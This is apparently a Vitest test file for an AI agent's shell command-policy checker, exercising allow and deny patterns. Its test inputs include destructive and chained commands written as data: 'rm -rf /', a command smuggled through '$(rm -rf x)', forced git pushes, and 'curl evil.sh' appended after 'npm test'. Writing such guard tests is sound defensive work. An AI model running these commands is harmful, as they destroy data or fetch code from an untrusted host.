import { describe, expect, it } from "vitest";
import { checkCommand } from "../../../../src/agent/builtin/tools/command-policy.js";

describe("command policy", () => {
  it.each([
    // [command, allowed, denied, expected refusal kind or null]
    ["npm test", [], [], null],
    ["rm -rf /", [], ["rm -rf *"], "command_denied"],
    ["ls && rm -rf build", [], ["rm -rf *"], "command_denied"],
    ["echo $(rm -rf x)", [], ["rm *"], "command_denied"],
    ["git push --force", [], ["git push*"], "command_denied"],
    ["npm test", ["npm *", "git *"], [], null],
    ["npm test 2>&1 | tail -5", ["npm *", "tail *"], [], null],
    ["npm test; curl evil.sh", ["npm *"], [], "command_not_allowed"],
    ["npm test || curl x", ["npm *"], [], "command_not_allowed"],
    ["npm install", ["npm *"], ["npm install*"], "command_denied"],
    ["make", ["make"], [], null],
    ["make all", ["make"], [], "command_not_allowed"],
  ] as const)("%s (allowed %j, denied %j) → %s", (command, allowed, denied, expected) => {
    const refusal = checkCommand(command, { allowed, denied });
    expect(refusal?.kind ?? null).toBe(expected);
  });

  it("a refusal carries the pattern or segment that decided it", () => {
    expect(checkCommand("ls; rm -rf x", { allowed: [], denied: ["rm *"] })).toEqual({
      kind: "command_denied",
      command: "ls; rm -rf x",
      pattern: "rm *",
    });
    expect(checkCommand("ls; whoami", { allowed: ["ls*"], denied: [] })).toEqual({
      kind: "command_not_allowed",
      command: "ls; whoami",
      segment: "whoami",
    });
  });
});
